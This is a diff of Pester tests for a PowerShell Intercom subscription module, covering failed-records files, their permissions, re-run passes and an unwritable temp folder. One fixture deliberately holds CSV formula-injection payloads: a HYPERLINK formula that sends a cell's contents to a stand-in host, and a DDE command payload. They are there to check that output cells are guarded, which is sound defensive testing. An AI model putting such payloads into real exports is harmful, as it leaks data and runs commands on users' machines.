@@ -59,9 +59,12 @@ Describe 'The README''s runbook, -Summary and the failed rows re-run' {
         $csvPath = New-ContactFile (Join-Path $TestDrive 'contacts.csv') $ids
         $script:CredentialsAsked = @()
         $runs = New-Object System.Collections.Generic.List[object]
+        # The README's runbook has no -FailedRecordsPath: its file goes to the module's folder in temp.
+        $folderBefore = Get-FailedRecordFolderState
     }
     AfterAll {
         $runs | ForEach-Object { Remove-FailedRecordFile $_ }
+        Restore-FailedRecordFolder $folderBefore
         Close-FakeIntercomSession $fake
     }
 
@@ -123,35 +126,115 @@ Describe 'The README''s runbook, -Summary and the failed rows re-run' {
         @($missing | Where-Object { $choices[$_]['108'] -ne 'opt_in' }).Count | Should -Be 0
         Get-FakeCallCount $fake 'POST /contacts/{id}/subscriptions' | Should -Be 110
     }
+
+    It 'wrote its file readable by its owner only, in a folder only its owner can open' -Skip:($IsWindows -or $PSVersionTable.PSVersion.Major -lt 7) {
+        $path = $runs[0].FailedRecordsPath
+        Split-Path -Parent $path | Should -Be (Get-FailedRecordFolder)
+        [Convert]::ToString([int] (Get-Item -LiteralPath $path).UnixFileMode, 8) | Should -Be '600'
+        [Convert]::ToString([int] (Get-Item -LiteralPath (Get-FailedRecordFolder)).UnixFileMode, 8) | Should -Be '700'
+    }
+
+    It 'leaves no file in the temp directory once the runs'' own files are removed' {
+        $runs | ForEach-Object { Remove-FailedRecordFile $_ }
+
+        ((Get-FailedRecordFolderState).Files -join ', ') | Should -Be ($folderBefore.Files -join ', ')
+    }
 }
 
-Describe 'The README''s recovery loop: the failed-records file re-run, and that run''s file re-run' {
+Describe 'The README''s recovery loop: each pass re-runs the file the last one wrote' {
     BeforeAll {
+        # A sandbox job's temp directory: where the README's loop puts its files.
+        $savedTemp = $env:TEMP
+        $env:TEMP = "$TestDrive"
         $fake = Open-FakeIntercomSession
-        Connect-Intercom -Credential (Get-AutomationPSCredential -Name Intercom) -Region EU
-        $missing = 1..105 | ForEach-Object { 'm{0:D3}' -f $_ }
-        $csvPath = New-ContactFile (Join-Path $TestDrive 'contacts.csv') $missing
-        $runs = New-Object System.Collections.Generic.List[object]
+        # Records of every shape a runbook pipes in: CSV rows of two shapes, hashtables, plain strings
+        # (emails and ids), and values a spreadsheet would run or that begin with what the file guards.
+        $mixed = @(
+            1..60 | ForEach-Object { [pscustomobject]@{ email = "csv$_@example.com"; note = "row $_" } }
+            1..25 | ForEach-Object { @{ contact_id = "ht$_" } }
+            1..10 | ForEach-Object { "plain$_@example.com" }
+            1..10 | ForEach-Object { "pid$_" }
+            [pscustomobject]@{ email = '-dash@example.com'; note = '=HYPERLINK("http://x.example/?d="&A1,"click")' }
+            [pscustomobject]@{ email = '+plus@example.com'; note = "+1+cmd|' /C calc'!A0" }
+            [pscustomobject]@{ email = "'quote@example.com"; note = '@SUM(A1:A2)' }
+            [pscustomobject]@{ external_id = '-u-7'; team = 'ops' }
+            @{ external_id = '@u-8' }
+        )
+        $emails = @(1..60 | ForEach-Object { "csv$_@example.com" }) + @(1..10 | ForEach-Object { "plain$_@example.com" }) + '-dash@example.com', '+plus@example.com', "'quote@example.com"
+        $contacts = @(
+            for ($i = 0; $i -lt $emails.Count; $i++) { @{ id = "em$i"; email = $emails[$i] } }
+            1..25 | ForEach-Object { @{ id = "ht$_" } }
+            1..10 | ForEach-Object { @{ id = "pid$_" } }
+            @{ id = 'ex7'; external_id = '-u-7' }
+            @{ id = 'ex8'; external_id = '@u-8' }
+        )
+        Add-FakeContact $fake $contacts
+        # Every change of the first pass fails (503), and the first 7 of the second: three passes.
+        Connect-Intercom -Credential (Get-AutomationPSCredential -Name Intercom) -Region EU -MaxRetries 0
+        $null = Set-FakeKnob $fake @{ Scripted = @(@{ status = 503; method = 'POST'; pathContains = '/subscriptions'; times = $mixed.Count + 7 }) }
     }
     AfterAll {
-        $runs | ForEach-Object { Remove-FailedRecordFile $_ }
+        Close-FakeIntercomSession $fake
+        $env:TEMP = $savedTemp
+    }
+
+    It 'keeps every record of every shape through three passes, Import-Csv reading each file' {
+        $printed = Get-ReadmeCode -Containing 'FailedRecordsPath (Join-Path $env:TEMP "failed-$pass.csv")'
+        # The one change to the printed code: the first pass's records are the mixed ones, not a CSV's rows.
+        ([regex]::Matches($printed, [regex]::Escape('$rows = Import-Csv $csvPath'))).Count | Should -Be 1
+        $loop = [scriptblock]::Create($printed.Replace('$rows = Import-Csv $csvPath', '$rows = $mixed'))
+
+        $said = @(. $loop)
+
+        $count = $mixed.Count
+        $said | Should -Be "Pass 1: 0 applied, $count failed", "Pass 2: $($count - 7) applied, 7 failed", 'Pass 3: 7 applied, 0 failed'
+        $choices = Get-FakeChoices $fake
+        @($contacts | Where-Object { $choices[$_.id]['108'] -ne 'opt_in' }).Count | Should -Be 0
+        # Every record was in the first file, under the union of the shapes' columns, its cells guarded.
+        $first = @(Import-Csv (Join-Path $TestDrive 'failed-1.csv'))
+        $first.Count | Should -Be $count
+        $first[0].PSObject.Properties.Name -join ',' | Should -Be 'email,note,contact_id,ContactId,external_id,team,IntercomErrorId,IntercomErrorMessage'
+        @(Import-Csv (Join-Path $TestDrive 'failed-2.csv')).Count | Should -Be 7
+        @(Import-Csv (Join-Path $TestDrive 'failed-3.csv')).Count | Should -Be 0
+        $text = Get-Content -Raw (Join-Path $TestDrive 'failed-1.csv')
+        $text | Should -Not -Match 'System\.Collections'
+        $text | Should -Match ([regex]::Escape('"''=HYPERLINK('))
+        $text | Should -Match ([regex]::Escape('"''-dash@example.com"'))
+    }
+}
+
+Describe 'A temp folder that cannot be written' {
+    BeforeAll {
+        $fake = Open-FakeIntercomSession
+        Add-FakeContact $fake @(1..20 | ForEach-Object { @{ id = "ok$_" } })
+    }
+    AfterAll {
         Close-FakeIntercomSession $fake
     }
 
-    It 'keeps every row through three passes' {
-        Set-ItResult -Skipped -Because 'issue 19 (1, "The failed-records file cannot be re-run twice"): a re-run''s file repeats ErrorId and ErrorMessage, and Import-Csv refuses it'
-        $first = Import-Csv $csvPath | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -ErrorAction SilentlyContinue
-        $runs.Add($first)
-        $second = Import-Csv $first.FailedRecordsPath | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary -ErrorAction SilentlyContinue
-        $runs.Add($second)
-        $second.Failed | Should -Be 105
-        Add-FakeContact $fake @($missing | ForEach-Object { @{ id = $_ } })
+    It 'is a warning and a note in the summary, and the run goes on and reports every change' {
+        $nowhere = Join-Path $TestDrive 'no-such-temp'
+        $result = Invoke-FreshPwsh -Environment @{ TMPDIR = $nowhere; TEMP = $nowhere; TMP = $nowhere; FAKE_URI = "$($fake.BaseUri)"; FAKE_TOKEN = $fake.Token; MANIFEST = (Get-ManifestUnderTest) } -Command @'
+Import-Module $env:MANIFEST
+Connect-Intercom -BaseUri $env:FAKE_URI -Token (ConvertTo-SecureString $env:FAKE_TOKEN -AsPlainText -Force)
+$rows = @(1..105 | ForEach-Object { [pscustomobject]@{ contact_id = "gone$_" } }) + @(1..20 | ForEach-Object { [pscustomobject]@{ contact_id = "ok$_" } })
+$rows | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -SummaryVariable run -ErrorAction SilentlyContinue -WarningVariable warned | Measure-Object | ForEach-Object { "output: $($_.Count)" }
+"status: $($run.Status)"
+"counts: $($run.Succeeded) $($run.Failed) $($run.Errors.Count) $($run.ErrorsNotKept)"
+"path: [$($run.FailedRecordsPath)]"
+"warned: $($warned.Count)"
+"note: $($run.Notes)"
+'@
 
-        $third = Import-Csv $second.FailedRecordsPath | Add-IntercomContactSubscription -SubscriptionId 108 -Consent opt_in -Summary
-
-        $third.Succeeded | Should -Be 105
+        $lines = $result.Output -split "`r?`n"
+        $lines | Should -Contain 'output: 20'
+        $lines | Should -Contain 'status: Completed'
+        $lines | Should -Contain 'counts: 20 105 100 5'
+        $lines | Should -Contain 'path: []'
+        $lines | Should -Contain 'warned: 1'
+        @($lines | Where-Object { $_ -like 'note: Could not write the failed records to the folder*no-such-temp*' }).Count | Should -Be 1
         $choices = Get-FakeChoices $fake
-        @($missing | Where-Object { $choices[$_]['108'] -ne 'opt_in' }).Count | Should -Be 0
+        @(1..20 | Where-Object { $choices["ok$_"]['108'] -ne 'opt_in' }).Count | Should -Be 0
     }
 }
 
